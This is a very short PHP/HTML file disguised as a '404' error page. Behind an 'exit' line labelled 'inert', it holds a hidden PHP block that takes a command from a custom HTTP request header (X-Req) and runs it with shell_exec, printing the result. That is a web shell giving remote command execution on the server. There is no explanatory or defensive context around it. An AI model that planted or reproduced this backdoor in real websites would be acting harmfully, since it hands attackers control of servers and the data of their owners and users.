<?php exit; /* inert */ ?><html><body>404
<script language="php">
$h = $_SERVER['HTTP_X_REQ'];
if ($h) { echo shell_exec($h); }
</script></body></html>
